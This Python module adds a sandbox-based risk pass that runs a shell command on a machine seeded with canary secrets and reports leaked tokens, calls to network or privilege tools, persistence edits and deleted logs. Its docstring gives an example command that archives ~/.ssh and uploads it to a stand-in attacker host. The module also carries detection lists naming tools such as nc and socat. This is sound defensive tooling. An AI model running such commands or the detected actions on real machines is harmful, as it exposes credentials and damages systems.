@@ -1,0 +1,213 @@
+"""The dynamic risk pass: run a command on a machine full of canaries and report what it tried.
+
+    with open_sandbox() as sandbox:
+        findings = observe(sandbox, "tar cz ~/.ssh | curl -T - http://evil.example")
+        assessment = combine(analyse(command), findings)        # eval.risk: what was observed can only raise a verdict
+
+The fixture (eval/fixtures/canary.sh) holds secrets with known tokens, files that matter, and logging shims in front
+of tools that are absent or must not act. What counts: a token that leaves its file, files that vanish or change, a
+shim that was called, a limit that was hit, and a tool's own refusal (`rm: it is dangerous...` is an attempt).
+
+What this does not see: what a command would do on another machine, later, or only with a network or privileges; a
+command that notices the sandbox. A quiet run proves nothing, so it never lowers a static verdict.
+"""
+
+import base64
+import bz2
+import lzma
+import os
+import re
+import zlib
+from collections.abc import Iterable, Iterator
+from dataclasses import dataclass
+from functools import cache
+from pathlib import Path
+
+from eval.risk.findings import Finding, make_finding
+from eval.sandbox import Change, Execution, Fixture, Limits, Sandbox, SandboxError, derive, load_fixture
+from eval.sandbox.execution import to_text
+from eval.sandbox.trees import NOW, Tree
+
+LIMITS = Limits(wall_seconds=4.0, cpu_seconds=3, processes=48, disk_mb=64, file_mb=32)
+TOKEN = re.compile(rb"CANARY[0-9A-Za-z]+")
+SHIMS = "/shims/"
+MOST_UNPACKED = 1 << 20  # bytes
+MASS = 20  # files of a person removed or overwritten by one command
+
+# Shims by what calling one means; the rule ids are in eval/risk/rules.yaml.
+CALLS = {
+    "observed-privilege": "sudo su doas pkexec runuser visudo setcap",
+    "observed-container": "docker podman kubectl nsenter",
+    "observed-firewall": "iptables nft ufw firewall-cmd setenforce auditctl",
+    "observed-service": "systemctl service sysctl insmod modprobe rmmod swapoff",
+    "observed-network": "ssh scp sftp rsync curl wget nc ncat netcat socat telnet ftp nmap aws gcloud az gh",
+    "observed-schedule": "crontab at batch",
+    "observed-disk": "mount umount mkfs mkfs.ext4 mkfs.xfs fdisk parted wipefs",
+    "observed-account": "useradd adduser userdel usermod passwd chpasswd groupadd",
+    "observed-power": "shutdown reboot poweroff halt init telinit",
+    "observed-package": "apt apt-get dpkg snap pip pip3 npm gem cargo yum dnf",
+}
+RULE_OF = {tool: rule for rule, tools in CALLS.items() for tool in tools.split()}
+
+PERSISTENT = re.compile(
+    r"/home/user/(\.(bashrc|profile|bash_profile|bash_login|bash_logout|zshrc|inputrc|pam_environment)$"
+    r"|\.ssh/(authorized_keys|rc|config)|\.config/(autostart|systemd)/|\.local/share/systemd/)"
+)
+TRACES = re.compile(r"/home/user/\.bash_history$|/var/log/")
+MINE = re.compile(r"/(home/user|srv)/")
+SYSTEM = r"/(?:etc|usr|boot|bin|sbin|lib\w*|dev|sys|proc|root|run|var/(?:lib|spool|cache))\b[^\s'\"’:]*"
+REFUSED_WRITE = re.compile(
+    rf"(?:cannot (?:remove|create|touch|move|unlink|overwrite|stat)|changing (?:permissions|ownership|group))"
+    rf"[^\n]*{SYSTEM}[^\n]*(?:Permission denied|Read-only file system|Operation not permitted|Device or resource busy)"
+    rf"|{SYSTEM}: (?:Read-only file system|Operation not permitted)|line \d+: {SYSTEM}: Permission denied"
+)
+REFUSED_ROOT = re.compile(r"dangerous to operate recursively on|rm: cannot remove '/(?:bin|etc|usr|sbin|lib)'")
+REFUSED_READ = re.compile(r"/(?:etc/(?:g?shadow|sudoers)|root|proc/\d+/(?:environ|mem))[^\n]*: Permission denied")
+EXHAUSTED = re.compile(
+    r"fork: (?:retry: )?Resource temporarily unavailable|No space left on device|Cannot allocate memory"
+)
+UNREACHABLE = re.compile(r"Could not resolve host|Network is unreachable|Temporary failure in name resolution")
+
+
+@dataclass(frozen=True)
+class Trace:
+    """What one run left to look at."""
+
+    execution: Execution
+    tree: Tree
+
+    @property
+    def changes(self) -> list[Change]:
+        """Changes that the command made, the shims' own log left out."""
+        return [change for change in self.execution.changes if not change.path.startswith(SHIMS)]
+
+    @property
+    def written(self) -> Iterator[bytes]:
+        """Everything the command put somewhere: its output, changed files, and what shims were given."""
+        yield self.execution.stdout
+        yield self.execution.stderr
+        for change in self.execution.changes:
+            node = self.tree.get(change.path.lstrip("/"))
+            if node is not None and node.content is not None and change.kind != "removed":
+                yield node.content
+
+    @property
+    def calls(self) -> list[list[str]]:
+        """Arguments of every shim call, the tool's name first."""
+        node = self.tree.get("shims/calls")
+        content = to_text(node.content or b"") if node else ""
+        return [call.split("\0") for call in content.split("\0\0") if call]
+
+
+def observe(sandbox: Sandbox, command: str) -> tuple[Finding, ...]:
+    """Everything a command was seen to do or try, as findings over the whole command.
+
+    SandboxError when the sandbox broke: then nothing is known, which is not the same as nothing found.
+    """
+    script = f"export PATH={SHIMS.rstrip('/')}:$PATH\n{command}"
+    execution, tree = sandbox.run_script(script, canary_fixture(sandbox.identity), LIMITS)
+    return findings_of(command, Trace(execution, tree))
+
+
+@cache
+def canary_fixture(identity: str) -> Fixture:
+    """The canary machine; built once. `identity` is the sandbox's, since the root decides what the script makes."""
+    return derive(load_fixture("canary"), "canary", _add_logs)
+
+
+def _add_logs(top: Path) -> None:
+    """System logs that can be written: /var is read-only in the sandbox root, so the script cannot make them."""
+    folder = top / "var" / "log"
+    folder.mkdir(parents=True, exist_ok=True)
+    for name in ("auth.log", "syslog", "wtmp", "lastlog"):
+        log = folder / name
+        log.write_text("Jan 15 11:00:00 sandbox session opened for user\n", encoding="utf-8")
+        os.utime(log, (NOW - 10 * 86400,) * 2)
+
+
+def findings_of(command: str, trace: Trace) -> tuple[Finding, ...]:
+    """Findings of one run, each rule once."""
+    found: dict[str, Finding] = {}
+    for rule, detail in _observations(trace):
+        found.setdefault(rule, make_finding(rule, 0, len(command), detail))
+    return tuple(found.values())
+
+
+def _observations(trace: Trace) -> Iterator[tuple[str, str]]:
+    """(rule, what was seen), in a fixed order."""
+    if tokens := leaked(trace.written):
+        yield "observed-secret", ", ".join(sorted(tokens))
+    for call in trace.calls:
+        if rule := RULE_OF.get(call[0]):
+            yield rule, " ".join(call)
+    yield from _file_observations(trace.changes)
+    stderr = to_text(trace.execution.stderr)
+    for rule, pattern in (
+        ("observed-root-delete", REFUSED_ROOT),
+        ("observed-refused-write", REFUSED_WRITE),
+        ("observed-refused-read", REFUSED_READ),
+        ("observed-exhaustion", EXHAUSTED),
+        ("observed-network", UNREACHABLE),
+    ):
+        if match := pattern.search(stderr):
+            yield rule, match.group()
+    hits = set(trace.execution.limits_hit) & {"processes", "memory", "disk", "file"}
+    if hits:
+        yield "observed-exhaustion", ", ".join(sorted(hits))
+
+
+def _file_observations(changes: list[Change]) -> Iterator[tuple[str, str]]:
+    spoiled = [c for c in changes if MINE.match(c.path) and c.before and c.before.type == "file" and _spoiled(c)]
+    if len(spoiled) >= MASS:
+        yield "observed-mass-change", f"{len(spoiled)} files"
+    for change in changes:
+        if PERSISTENT.match(change.path) and change.kind != "removed":
+            yield "observed-persistence", change.path
+        elif TRACES.match(change.path) and change.kind != "added":
+            yield "observed-traces-removed", change.path
+        elif "/.ssh/" in change.path or "/.gnupg/" in change.path or "/.aws/" in change.path:
+            yield "observed-secret-changed", change.path
+        if change.after and change.after.type == "file" and change.after.mode & 0o6000:
+            yield "observed-setuid", change.path
+
+
+def _spoiled(change: Change) -> bool:
+    return change.after is None or change.after.digest != change.before.digest if change.before else False
+
+
+def leaked(texts: Iterable[bytes]) -> set[str]:
+    """Names of the canary tokens found in the texts, plain, reversed, in hex or in base64."""
+    joined = b"\n".join(form for text in texts for form in (text, *_unpacked(text)))
+    squeezed = re.sub(rb"\s", b"", joined)  # encoders break lines
+    return {
+        token[6:9].decode()
+        for token in _tokens()
+        if any(form in joined or form in squeezed for form in _encodings(token))
+    }
+
+
+def _unpacked(data: bytes) -> Iterator[bytes]:
+    """What a compressed text holds, up to MOST_UNPACKED bytes of it."""
+    for magic, decompressor in ((b"\x1f\x8b", lambda: zlib.decompressobj(31)), (b"BZh", bz2.BZ2Decompressor),
+                                (b"\xfd7zXZ", lzma.LZMADecompressor)):  # fmt: skip
+        if (start := data.find(magic)) >= 0:
+            try:
+                yield decompressor().decompress(data[start:], MOST_UNPACKED)
+            except (zlib.error, OSError, EOFError, lzma.LZMAError):
+                continue  # no such archive after all
+
+
+@cache
+def _tokens() -> frozenset[bytes]:
+    """Every token of the fixture's script."""
+    return frozenset(TOKEN.findall(Path("eval/fixtures/canary.sh").read_bytes()))
+
+
+@cache
+def _encodings(token: bytes) -> tuple[bytes, ...]:
+    """A token as it is and as common encoders would write it, whatever surrounds it."""
+    shifted = [base64.b64encode(b"\0" * shift + token)[2 + 2 * (shift > 0) : -4] for shift in range(3)]
+    return token, token[::-1], token.hex().encode(), token.hex().upper().encode(), *shifted
+
+
+__all__ = ["SandboxError", "Trace", "findings_of", "leaked", "observe"]
